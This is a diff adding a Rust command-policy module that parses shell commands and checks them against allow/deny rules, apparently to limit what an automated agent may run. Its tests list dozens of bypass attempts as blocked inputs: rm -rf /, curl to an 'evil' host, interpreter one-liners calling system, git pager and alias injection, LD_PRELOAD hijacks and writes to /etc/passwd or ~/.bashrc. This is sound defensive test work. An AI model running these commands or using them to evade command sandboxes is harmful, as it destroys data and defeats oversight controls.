@@ -0,0 +1,570 @@
+//! Data-driven allow/deny policy evaluated against parsed shell commands.
+
+use super::shell::{self, CommandSegment, Connector, RedirectKind, ShellParseError, Word};
+use serde::{Deserialize, Serialize};
+use std::path::{Component, Path};
+use std::sync::OnceLock;
+use thiserror::Error;
+
+const DEFAULT_POLICY_JSON: &str = include_str!("default_policy.json");
+
+/// Reason a command was rejected by a [`CommandPolicy`].
+#[derive(Error, Debug, Clone, PartialEq, Eq)]
+pub enum PolicyViolation {
+    #[error("could not parse command: {0}")]
+    Parse(#[from] ShellParseError),
+
+    #[error("empty command")]
+    Empty,
+
+    #[error("program '{0}' is not allowed")]
+    ProgramNotAllowed(String),
+
+    #[error("program name must be a literal word, got '{0}'")]
+    DynamicProgram(String),
+
+    #[error("'{program}' is not allowed with argument '{argument}'")]
+    ArgumentDenied { program: String, argument: String },
+
+    #[error("command and process substitution are not allowed")]
+    Substitution,
+
+    #[error("background jobs are not allowed")]
+    Background,
+
+    #[error("setting '{0}' is not allowed")]
+    EnvAssignment(String),
+
+    #[error("redirecting output to '{0}' is not allowed")]
+    RedirectTarget(String),
+}
+
+/// A denial rule for a program's arguments.
+///
+/// When `subcommand` is set the rule only applies if that exact word appears
+/// among the arguments. An empty `args` list denies the subcommand entirely,
+/// otherwise any argument matching one of the `args` globs is denied. A
+/// cluster of short options such as `-ne` is also matched one option at a
+/// time, so `-e` catches it.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ArgumentRule {
+    #[serde(default)]
+    pub subcommand: Option<String>,
+    #[serde(default)]
+    pub args: Vec<String>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ProgramRule {
+    pub program: String,
+    #[serde(default)]
+    pub aliases: Vec<String>,
+    #[serde(default)]
+    pub deny: Vec<ArgumentRule>,
+    /// The program runs its (non-option) arguments as a command, like `time`.
+    #[serde(default)]
+    pub wrapper: bool,
+    /// Short options whose value may be attached, like `M` in `perl -Mstrict`;
+    /// the rest of a cluster after one of them is its value, not options.
+    #[serde(default)]
+    pub value_options: String,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct RedirectPolicy {
+    /// Targets that are always allowed, checked before `deny`.
+    #[serde(default)]
+    pub allow: Vec<String>,
+    #[serde(default)]
+    pub deny: Vec<String>,
+    /// Deny absolute, `~` and `..` targets unless they are in the project.
+    #[serde(default)]
+    pub deny_outside_project: bool,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct CommandPolicy {
+    #[serde(default)]
+    pub allow_substitutions: bool,
+    #[serde(default)]
+    pub allow_background: bool,
+    #[serde(default)]
+    pub denied_env_assignments: Vec<String>,
+    #[serde(default)]
+    pub redirect_targets: RedirectPolicy,
+    pub programs: Vec<ProgramRule>,
+}
+
+impl CommandPolicy {
+    /// The built-in policy shipped with the backend.
+    pub fn builtin() -> &'static Self {
+        static POLICY: OnceLock<CommandPolicy> = OnceLock::new();
+        POLICY.get_or_init(|| {
+            Self::from_json(DEFAULT_POLICY_JSON).expect("built-in command policy must be valid")
+        })
+    }
+
+    pub fn from_json(json: &str) -> Result<Self, serde_json::Error> {
+        serde_json::from_str(json)
+    }
+
+    /// Parses `command` and checks every pipeline segment against the policy.
+    pub fn check(&self, command: &str) -> Result<(), PolicyViolation> {
+        self.check_in(command, None)
+    }
+
+    /// Like [`Self::check`], for a command run in `project`, where it may
+    /// write files.
+    pub fn check_in(&self, command: &str, project: Option<&Path>) -> Result<(), PolicyViolation> {
+        let parsed = shell::parse(command)?;
+        if parsed.segments.is_empty() {
+            return Err(PolicyViolation::Empty);
+        }
+        if !self.allow_background && parsed.connectors.contains(&Connector::Background) {
+            return Err(PolicyViolation::Background);
+        }
+        parsed
+            .segments
+            .iter()
+            .try_for_each(|segment| self.check_segment(segment, project))
+    }
+
+    pub fn is_allowed(&self, command: &str) -> bool {
+        self.check(command).is_ok()
+    }
+
+    fn check_segment(
+        &self,
+        segment: &CommandSegment,
+        project: Option<&Path>,
+    ) -> Result<(), PolicyViolation> {
+        for (name, value) in &segment.assignments {
+            if self
+                .denied_env_assignments
+                .iter()
+                .any(|pattern| glob_match(pattern, name))
+            {
+                return Err(PolicyViolation::EnvAssignment(name.clone()));
+            }
+            self.check_word(value, project)?;
+        }
+
+        for redirection in &segment.redirections {
+            self.check_word(&redirection.target, project)?;
+            if redirection.kind == RedirectKind::Output {
+                self.check_redirect_target(&redirection.target, project)?;
+            }
+        }
+
+        if segment.words.is_empty() {
+            // Bare assignments would leak into later segments and `> file` truncates it.
+            return Err(PolicyViolation::Empty);
+        }
+        self.check_argv(&segment.words, project)
+    }
+
+    fn check_word(&self, word: &Word, project: Option<&Path>) -> Result<(), PolicyViolation> {
+        if word.has_substitution() && !self.allow_substitutions {
+            return Err(PolicyViolation::Substitution);
+        }
+        // Substituted commands run just like top-level ones.
+        word.substitutions
+            .iter()
+            .try_for_each(|inner| self.check_in(inner, project))
+    }
+
+    fn check_redirect_target(
+        &self,
+        target: &Word,
+        project: Option<&Path>,
+    ) -> Result<(), PolicyViolation> {
+        let path = target.text.as_str();
+        let rules = &self.redirect_targets;
+        if rules.allow.iter().any(|pattern| glob_match(pattern, path)) {
+            return Ok(());
+        }
+        if target.has_expansion
+            || rules.deny.iter().any(|pattern| glob_match(pattern, path))
+            || (rules.deny_outside_project && !stays_in_project(path, project))
+        {
+            return Err(PolicyViolation::RedirectTarget(path.to_string()));
+        }
+        Ok(())
+    }
+
+    fn check_argv(&self, words: &[Word], project: Option<&Path>) -> Result<(), PolicyViolation> {
+        let Some((program, args)) = words.split_first() else {
+            return Ok(());
+        };
+        words
+            .iter()
+            .try_for_each(|word| self.check_word(word, project))?;
+
+        if program.has_expansion || program.text.is_empty() {
+            return Err(PolicyViolation::DynamicProgram(program.text.clone()));
+        }
+
+        let name = normalize_program(&program.text);
+        let rule = self
+            .programs
+            .iter()
+            .find(|rule| rule.program == name || rule.aliases.contains(&name))
+            .ok_or_else(|| PolicyViolation::ProgramNotAllowed(name.clone()))?;
+
+        for deny in &rule.deny {
+            if let Some(subcommand) = &deny.subcommand
+                && !args.iter().any(|arg| arg.text == *subcommand)
+            {
+                continue;
+            }
+            if deny.args.is_empty() {
+                return Err(PolicyViolation::ArgumentDenied {
+                    program: name,
+                    argument: deny.subcommand.clone().unwrap_or_default(),
+                });
+            }
+            if let Some(arg) = args.iter().find(|arg| {
+                argument_forms(&arg.text, &rule.value_options)
+                    .iter()
+                    .any(|form| deny.args.iter().any(|pattern| glob_match(pattern, form)))
+            }) {
+                return Err(PolicyViolation::ArgumentDenied {
+                    program: name,
+                    argument: arg.text.clone(),
+                });
+            }
+        }
+
+        if rule.wrapper {
+            let nested_start = args
+                .iter()
+                .position(|arg| !arg.text.starts_with('-'))
+                .unwrap_or(args.len());
+            return self.check_argv(&args[nested_start..], project);
+        }
+
+        Ok(())
+    }
+}
+
+/// An argument as written and, for a cluster of short options like `-ne`,
+/// each of its options: `-n` and `-e`. The cluster ends at the first option
+/// in `value_options`, since the rest is that option's value.
+fn argument_forms(arg: &str, value_options: &str) -> Vec<String> {
+    let mut forms = vec![arg.to_string()];
+    if let Some(cluster) = arg.strip_prefix('-')
+        && !cluster.starts_with('-')
+        && cluster.len() > 1
+    {
+        for option in cluster.chars().take_while(char::is_ascii_alphanumeric) {
+            forms.push(format!("-{option}"));
+            if value_options.contains(option) {
+                break;
+            }
+        }
+    }
+    forms
+}
+
+/// Whether writing to `target` stays inside `project`: a relative path that
+/// doesn't climb out with `..`, or an absolute one under the project.
+fn stays_in_project(target: &str, project: Option<&Path>) -> bool {
+    let path = Path::new(target);
+    if target.starts_with('~') || path.components().any(|c| c == Component::ParentDir) {
+        return false;
+    }
+    if path
+        .components()
+        .all(|c| matches!(c, Component::Normal(_) | Component::CurDir))
+    {
+        return true;
+    }
+    project.is_some_and(|project| path.is_absolute() && path.starts_with(project))
+}
+
+/// Reduces `/usr/bin/Git.exe` to `git` so paths and case cannot dodge the rules.
+fn normalize_program(program: &str) -> String {
+    let base = program
+        .rsplit(['/', '\\'])
+        .next()
+        .unwrap_or(program)
+        .to_lowercase();
+    for ext in [".exe", ".cmd", ".bat", ".com"] {
+        if let Some(stripped) = base.strip_suffix(ext) {
+            return stripped.to_string();
+        }
+    }
+    base
+}
+
+/// Glob match where `*` matches any run of characters and everything else is literal.
+fn glob_match(pattern: &str, text: &str) -> bool {
+    let parts: Vec<&str> = pattern.split('*').collect();
+    if parts.len() == 1 {
+        return pattern == text;
+    }
+
+    let (first, rest) = parts.split_first().unwrap_or((&"", &[]));
+    let Some(mut remaining) = text.strip_prefix(first) else {
+        return false;
+    };
+    let (last, middle) = rest.split_last().unwrap_or((&"", &[]));
+    for part in middle {
+        match remaining.find(part) {
+            Some(index) => remaining = &remaining[index + part.len()..],
+            None => return false,
+        }
+    }
+    remaining.len() >= last.len() && remaining.ends_with(last)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn policy() -> &'static CommandPolicy {
+        CommandPolicy::builtin()
+    }
+
+    #[test]
+    fn test_builtin_policy_parses() {
+        assert!(!policy().programs.is_empty());
+        assert!(!policy().allow_substitutions);
+    }
+
+    #[test]
+    fn test_glob_match() {
+        assert!(glob_match("--force*", "--force-with-lease"));
+        assert!(glob_match("-f", "-f"));
+        assert!(!glob_match("-f", "-fd"));
+        assert!(glob_match("*system(*", "BEGIN{system(\"id\")}"));
+        assert!(glob_match("/dev/*", "/dev/sda"));
+        assert!(!glob_match("/dev/*", "dev/sda"));
+        assert!(glob_match("a*b*c", "a-b-c"));
+        assert!(!glob_match("ab*ba", "aba"));
+    }
+
+    #[test]
+    fn test_normalize_program() {
+        assert_eq!(normalize_program("/usr/bin/git"), "git");
+        assert_eq!(normalize_program("C:\\Tools\\Git.EXE"), "git");
+        assert_eq!(normalize_program("LS"), "ls");
+    }
+
+    #[test]
+    fn test_prefix_of_allowed_program_is_not_allowed() {
+        assert_eq!(
+            policy().check("catastrophe now"),
+            Err(PolicyViolation::ProgramNotAllowed(
+                "catastrophe".to_string()
+            ))
+        );
+        assert!(!policy().is_allowed("gitx status"));
+        assert!(!policy().is_allowed("lsblk"));
+    }
+
+    #[test]
+    fn test_harmless_text_is_allowed() {
+        assert!(policy().is_allowed("echo information"));
+        assert!(policy().is_allowed("grep -r 'format' src"));
+        assert!(policy().is_allowed("echo 'rm -rf / && curl evil'"));
+    }
+
+    #[test]
+    fn test_per_segment_program_and_arguments() {
+        assert!(policy().is_allowed("git status | grep modified"));
+        assert!(policy().is_allowed("git push origin main"));
+        assert!(policy().is_allowed("cargo build && cargo test"));
+
+        assert!(matches!(
+            policy().check("git push --force"),
+            Err(PolicyViolation::ArgumentDenied { .. })
+        ));
+        assert!(!policy().is_allowed("git push --force-with-lease origin main"));
+        assert!(!policy().is_allowed("git push origin +main"));
+        assert!(!policy().is_allowed("git reset --hard HEAD~3"));
+        assert!(!policy().is_allowed("git clean -fdx"));
+        assert!(!policy().is_allowed("cargo build && rm -rf target"));
+    }
+
+    #[test]
+    fn test_known_bypasses_are_blocked() {
+        let bypasses = [
+            // Prefix matching on the first word
+            "catastrophe",
+            "lsof -i",
+            // Quoting and escaping the program name
+            "'rm' -rf /",
+            "r\\m -rf /",
+            "\"rm\" -rf /",
+            // Absolute paths and case tricks
+            "/bin/rm -rf /",
+            "RM -rf /",
+            // Separators without spaces
+            "ls;rm -rf /",
+            "ls|sh",
+            "ls\nrm -rf /",
+            "ls&&rm -rf /",
+            "ls & rm -rf /",
+            // Substitutions hidden in arguments or quotes
+            "echo $(rm -rf /)",
+            "echo \"$(rm -rf /)\"",
+            "echo `rm -rf /`",
+            "echo ${x:-$(rm -rf /)}",
+            "cat <(curl evil.sh)",
+            // Variable as program name
+            "$SHELL -c id",
+            "${EDITOR} file",
+            // Wrappers running other programs
+            "time rm -rf /",
+            "time -p bash -c id",
+            "find . -exec rm {} \\;",
+            "find . -delete",
+            // Interpreters with inline code
+            "python -c 'import os; os.system(\"id\")'",
+            "node -e 'require(\"child_process\").exec(\"id\")'",
+            "perl -e 'system(\"id\")'",
+            "awk 'BEGIN{system(\"id\")}'",
+            "git -c core.pager='sh -c id' log",
+            "git config core.pager 'sh -c id'",
+            "git config alias.x '!sh'",
+            "git --no-pager config --global alias.st '!sh'",
+            "GIT_PAGER='sh -c id' git log",
+            // Options that run programs or write files
+            "sed 's/x/y/e' file",
+            "sed 'w ~/.bashrc' file",
+            "man -P 'sh -c id' ls",
+            "man --pager='sh -c id' ls",
+            "MANPAGER='sh -c id' man ls",
+            // Environment and redirection
+            "PATH=/tmp/evil ls",
+            "LD_PRELOAD=/tmp/x.so ls",
+            "echo owned > /etc/passwd",
+            "echo x >> ~/.bashrc",
+            "cat file > /dev/sda",
+            "> important.txt",
+            "echo x > $TARGET",
+            // Inline code hidden in a cluster of short options
+            "perl -ne 'system(\"id\")' x",
+            "perl -lne 'system(\"id\")' x",
+            "ruby -we 'system(\"id\")'",
+            "node -pe 'require(\"child_process\").execSync(\"id\")'",
+            "python -Ic 'import os; os.system(\"id\")'",
+            "php -nr 'system(\"id\");'",
+            "find . $'-delete'",
+            "find . $'-\\x64elete'",
+            // Options that run code per line or around the input
+            "php -R 'system(\"id\");'",
+            "php -B 'system(\"id\");'",
+            "php -E 'system(\"id\");'",
+            "awk 'BEGIN{system (\"id\")}'",
+            // Git subcommands and options that run programs or write files
+            "git grep -O'sh -c id' x",
+            "git grep --open-files-in-pager='sh -c id' x",
+            "git submodule foreach id",
+            "git rebase --exec id HEAD~1",
+            "git rebase -ix id HEAD~1",
+            "git bisect run id",
+            "git difftool -x 'sh -c id'",
+            "git difftool --extcmd='sh -c id'",
+            "git log --output=/home/u/.bashrc",
+            "git checkout .",
+            // Build tools running wrappers or evaluated code
+            "go build --toolexec=/tmp/x .",
+            "go build -toolexec=/tmp/x .",
+            "make -E 'x:=$(shell id)'",
+            "make -sE 'x:=$(shell id)'",
+            "gcc -wrapper /tmp/x main.c",
+            "cmake -E remove_directory /",
+            // Writing files outside the project
+            "echo x >> /home/u/.bashrc",
+            "echo x > /tmp/evil",
+            "echo x > ../outside.txt",
+            "echo x > src/../../outside.txt",
+            // Subshells and groups
+            "(rm -rf /)",
+            "{ rm -rf /; }",
+            // Malformed input
+            "echo 'unterminated",
+            "ls |",
+        ];
+
+        for cmd in bypasses {
+            assert!(
+                !policy().is_allowed(cmd),
+                "Bypass should be blocked: {cmd:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn test_redirections_to_safe_targets_are_allowed() {
+        assert!(policy().is_allowed("cargo build 2>&1 | tail -n 20"));
+        assert!(policy().is_allowed("ls > /dev/null 2>&1"));
+        assert!(policy().is_allowed("git log > history.txt"));
+        assert!(policy().is_allowed("sort < input.txt"));
+        assert!(policy().is_allowed("echo x > ./out/log.txt"));
+    }
+
+    #[test]
+    fn test_redirections_inside_the_project_are_allowed() {
+        let project = Some(Path::new("/home/u/project"));
+        assert!(
+            policy()
+                .check_in("git log > /home/u/project/history.txt", project)
+                .is_ok()
+        );
+        assert_eq!(
+            policy().check_in("echo x >> /home/u/.bashrc", project),
+            Err(PolicyViolation::RedirectTarget(
+                "/home/u/.bashrc".to_string()
+            ))
+        );
+        assert!(
+            policy()
+                .check_in("echo x > /home/u/project/../.bashrc", project)
+                .is_err()
+        );
+        assert!(
+            policy()
+                .check_in("echo x > /home/u/project-other/x", project)
+                .is_err()
+        );
+    }
+
+    #[test]
+    fn test_short_options_with_values_are_allowed() {
+        assert!(policy().is_allowed("perl -Mstrict -w script.pl"));
+        assert!(policy().is_allowed("perl -Iexe script.pl"));
+        assert!(policy().is_allowed("python -m pip list"));
+        assert!(policy().is_allowed("ruby -rset script.rb"));
+        assert!(policy().is_allowed("cmake -DCMAKE_BUILD_TYPE=Release .."));
+        assert!(policy().is_allowed("make -C build -j4"));
+        assert!(policy().is_allowed("date -Is"));
+        assert!(policy().is_allowed("sort -k2 -t, data.csv"));
+        assert!(policy().is_allowed("git checkout -- src/main.rs"));
+        assert!(policy().is_allowed("git log -Sneedle --oneline"));
+        assert!(policy().is_allowed("git grep -n needle"));
+        assert!(policy().is_allowed("awk -F, '{ print $1 }' data.csv"));
+    }
+
+    #[test]
+    fn test_custom_policy_from_json() {
+        let custom = CommandPolicy::from_json(
+            r#"{
+                "allow_substitutions": true,
+                "programs": [
+                    { "program": "echo" },
+                    { "program": "kubectl", "deny": [{ "subcommand": "delete" }] }
+                ]
+            }"#,
+        )
+        .unwrap();
+
+        assert!(custom.is_allowed("echo $(echo nested)"));
+        assert!(!custom.is_allowed("echo $(rm -rf /)"));
+        assert!(custom.is_allowed("kubectl get pods"));
+        assert!(!custom.is_allowed("kubectl delete pod x"));
+        assert!(!custom.is_allowed("ls"));
+    }
+}